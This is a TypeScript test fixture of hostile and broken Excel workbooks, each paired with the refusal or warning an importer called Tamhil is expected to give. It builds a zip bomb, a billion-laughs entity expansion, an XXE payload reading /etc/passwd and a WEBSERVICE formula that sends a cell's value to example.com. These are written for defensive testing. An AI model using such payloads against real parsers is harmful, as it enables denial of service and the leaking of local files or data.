import { currentSchemaVersion } from '@shared/model/plan-schema.ts';
import JSZip from 'jszip';
import { evaluatePlan } from '@shared/budget/evaluated-plan.ts';
import { maxWorkbookCells, maxWorkbookRows } from '@shared/xlsx/workbook-guard.ts';
import { exportPlanWorkbook } from '@shared/xlsx/write-workbook.ts';
import { samplePlan, validSampleName } from '../helpers/samples.ts';
import { nestedArrays } from './plan-text.ts';

/**
 * Workbooks handed to `tamhil import` as an attacker or a broken program would make them, each
 * with what Tamhil must say. Built in code from the sample's own planning workbook, so each
 * differs from a workbook Tamhil reads by the one thing it tests.
 */
export type HostileWorkbook = {
  name: string;
  bytes: () => Promise<Uint8Array>;
  /**
   * What `tamhil import` prints after the file's name, in English, refusing the workbook (a
   * pattern where it counts what the export happens to hold); null when it is taken in.
   */
  refusal: string | RegExp | null;
  /** For a workbook taken in: the lines import prints on stderr after the file's name. */
  notes?: string[];
  /** For a workbook taken in: the name its first service has in the plan written. */
  firstServiceName?: string;
};

const exported = async () => exportPlanWorkbook(evaluatePlan(samplePlan(validSampleName)).plan, { language: 'he' });
/** The parts of the sheet of services and budget, and of the texts every sheet shares (the hidden plan copy among them). */
const servicesPart = 'xl/worksheets/sheet6.xml';
const sharedStringsPart = 'xl/sharedStrings.xml';

/** The exported sample with parts replaced (`null` removes one); bytes go in as they are. */
async function withParts(parts: Record<string, string | Uint8Array | ((xml: string) => string) | null>, compression: 'STORE' | 'DEFLATE' = 'DEFLATE'): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await exported());
  for (const [name, part] of Object.entries(parts)) {
    if (part === null) zip.remove(name);
    else zip.file(name, typeof part === 'function' ? part(await zip.file(name)!.async('string')) : part);
  }
  return zip.generateAsync({ type: 'uint8array', compression });
}

const sheetXml = (sheetData: string, after = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetData}</sheetData>${after}</worksheet>`;

/** Sets an entry's declared uncompressed size in its central and its local header. */
function declareSize(zip: Uint8Array, name: string, size: number): Uint8Array {
  const patched = zip.slice();
  const view = new DataView(patched.buffer);
  const wanted = new TextEncoder().encode(name);
  for (let at = 0; at + 46 < patched.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50 || view.getUint16(at + 28, true) !== wanted.length) continue;
    if (!wanted.every((value, index) => patched[at + 46 + index] === value)) continue;
    view.setUint32(at + 24, size, true);
    view.setUint32(view.getUint32(at + 42, true) + 22, size, true);
    return patched;
  }
  throw new Error(`no entry ${name}`);
}

/** An Office compound file holding the named streams: an encrypted workbook or an Excel 97–2003 one. */
const compoundFile = (...streams: string[]) =>
  Uint8Array.from([
    ...[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(504).fill(0)],
    ...streams.flatMap((name) => [...Buffer.from(name, 'utf16le'), 0, 0, ...new Array<number>(64).fill(0)]),
  ]);

const damaged = (detail: string) => `The file is damaged or was not saved completely, so it cannot be read (${detail}). If Excel opens it, save it again and retry; otherwise ask whoever sent it for a new copy.`;
const notAZip = 'The file is not an Excel workbook (.xlsx). Open it in Excel, save it as "Excel Workbook" and try again.';
const noSheet = 'The workbook has no worksheet that can be read. Check that you chose the right file and that it has at least one sheet with data.';
const text = (content: string) => new TextEncoder().encode(content);
const bomb = /^The part "xl\/worksheets\/sheet6\.xml" of the workbook is compressed [\d,]+ times, far beyond an ordinary workbook \(at most 200\)\. Files like this are sometimes built to crash programs, so Tamhil will not open it\. If it comes from a source you trust, open it in Excel, save it again and retry\.$/;
const doctype = damaged('"xl/worksheets/sheet6.xml" has a document type declaration');

export const hostileWorkbooks: readonly HostileWorkbook[] = [
  { name: 'random bytes', bytes: async () => Uint8Array.from({ length: 10_000 }, (_, index) => (index * 48_271) % 256), refusal: notAZip },
  { name: 'a PDF named .xlsx', bytes: async () => text('%PDF-1.7\n1 0 obj\n'), refusal: notAZip },
  { name: 'an empty file', bytes: async () => new Uint8Array(0), refusal: notAZip },
  { name: 'a CSV named .xlsx', bytes: async () => text('שם,עלות\nמועדון,100\n'), refusal: notAZip },
  { name: 'a workbook cut off halfway', bytes: async () => (await exported()).slice(0, 6_000), refusal: damaged('no end record; the file may be cut short') },
  {
    name: 'a password-protected workbook',
    bytes: async () => compoundFile('Root Entry', 'EncryptionInfo', 'EncryptedPackage'),
    refusal: 'The workbook is protected by a password, so Tamhil cannot read it. Open it in Excel, remove the password and save it again without one.',
  },
  {
    name: 'an Excel 97–2003 workbook',
    bytes: async () => compoundFile('Root Entry', 'Workbook', 'SummaryInformation'),
    refusal: 'This is a workbook in the old Excel format (.xls, Excel 97–2003). Open it in Excel and save it as an .xlsx workbook.',
  },
  {
    name: 'a zip bomb: 8 MB of spaces in a sheet of a few kilobytes',
    bytes: () => withParts({ [servicesPart]: (xml) => xml.replace('</worksheet>', `${' '.repeat(8 * 1024 * 1024)}</worksheet>`) }),
    refusal: bomb,
  },
  { name: 'a sheet declaring 150 MB', bytes: async () => declareSize(await exported(), servicesPart, 150 * 1024 * 1024), refusal: bomb },
  {
    name: 'entity expansion (a billion laughs)',
    bytes: () =>
      withParts({
        [servicesPart]: (xml) =>
          xml.replace('<worksheet', `<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'b'.repeat(level + 1)} "${`&${level === 0 ? 'a' : 'b'.repeat(level)};`.repeat(10)}">`).join('')}]><worksheet`),
      }),
    refusal: doctype,
  },
  {
    name: 'an external entity reading /etc/passwd',
    bytes: () => withParts({ [servicesPart]: (xml) => xml.replace('<worksheet', '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet').replace('<sheetData>', '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>') }),
    refusal: doctype,
  },
  {
    name: `more than ${maxWorkbookCells.toLocaleString('en')} cells`,
    bytes: () => withParts({ [servicesPart]: text(sheetXml(`<row r="1">${'<c/>'.repeat(maxWorkbookCells)}</row>`)) }, 'STORE'),
    refusal: /^The workbook has 2,000,[\d]{3} cells \(the largest sheet is "שירותים ותקציב"\), and Tamhil reads at most 2,000,000\. Copy only the range you need into a new workbook and try again\.$/,
  },
  {
    name: 'more rows than a sheet holds',
    bytes: () => withParts({ [servicesPart]: text(sheetXml('<row/>'.repeat(maxWorkbookRows))) }, 'STORE'),
    refusal: 'The file has more than 1,048,576 rows, and Tamhil reads at most 1,048,576. Split it into several files or delete rows you do not need.',
  },
  {
    name: "a cell past Excel's last row",
    bytes: () => withParts({ [servicesPart]: (xml) => xml.replace('</sheetData>', '<row r="50000000"><c r="A50000000"><v>1</v></c></row></sheetData>') }),
    refusal: damaged("a cell at row 50000000, column 22 is past Excel's last row or column"),
  },
  { name: 'a sheet cut off before its data ends', bytes: () => withParts({ [servicesPart]: (xml) => xml.slice(0, xml.indexOf('</sheetData>')) }), refusal: damaged('"xl/worksheets/sheet6.xml" has an element that is never closed') },
  { name: 'a UTF-16 sheet', bytes: () => withParts({ [servicesPart]: Buffer.from(`\ufeff${sheetXml('<row r="1"><c r="A1"><v>1</v></c></row>')}`, 'utf16le') }), refusal: damaged('"xl/worksheets/sheet6.xml" is not UTF-8') },
  { name: 'an empty zip', bytes: () => new JSZip().generateAsync({ type: 'uint8array' }), refusal: noSheet },
  { name: 'a workbook listing no sheet', bytes: () => withParts({ 'xl/workbook.xml': (xml) => xml.replace(/<sheets>.*<\/sheets>/, '<sheets/>') }), refusal: noSheet },
  {
    name: 'a whole-sheet merge and validation over the services sheet, which is read without expanding a range',
    bytes: () => withParts({ [servicesPart]: (xml) => xml.replace('</sheetData>', '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>') }),
    refusal: null,
    notes: [],
  },
  {
    name: 'a service name with references to entities XML does not define, one named like an object member',
    bytes: () =>
      withParts({ [servicesPart]: (xml) => xml.replace(/<c r="A2" s="(\d+)" t="s"><v>\d+<\/v><\/c>/, '<c r="A2" s="$1" t="inlineStr"><is><t>מועדון &constructor; &toString; &amp; &lt;&#x202E;</t></is></c>') }),
    refusal: null,
    notes: [],
    firstServiceName: 'מועדון &constructor; &toString; & <\u202e',
  },
  {
    name: 'formulas that reach outside: a web request and another workbook',
    bytes: () =>
      withParts({
        [servicesPart]: (xml) =>
          xml
            .replace(/<c r="D2" s="(\d+)"><v>\d+<\/v><\/c>/, '<c r="D2" s="$1"><f>WEBSERVICE("https://example.com/?"&amp;A2)</f><v>1</v></c>')
            .replace(/<c r="D3" s="(\d+)"><v>\d+<\/v><\/c>/, '<c r="D3" s="$1"><f>[1]Sheet1!A1</f><v>1</v></c>'),
      }),
    refusal: null,
    notes: [
      'Sheet "שירותים ותקציב", row 2, column "משתתפים": the formula =WEBSERVICE("https://example.com/?"&A2) was not read: it uses a function Tamhil does not compute. The previous value was kept.',
      'Sheet "שירותים ותקציב", row 3, column "משתתפים": the formula =[1]Sheet1!A1 was not read: it refers to another sheet or workbook. The previous value was kept.',
    ],
  },
  {
    name: 'a hidden plan copy nested 3,000 deep',
    bytes: () => withParts({ [sharedStringsPart]: (xml) => xml.replace(`{"schemaVersion":${currentSchemaVersion},`, `{"schemaVersion":${currentSchemaVersion},"deep":${nestedArrays(3_000)},`) }),
    refusal: null,
    notes: [
      'The copy of the plan kept in the workbook could not be used (The plan is damaged: at deep[0][0][0][0][0]… it is nested 3,001 levels deep, more than the 32 a plan can hold.); the visible sheets were read into a new plan.',
    ],
  },
];
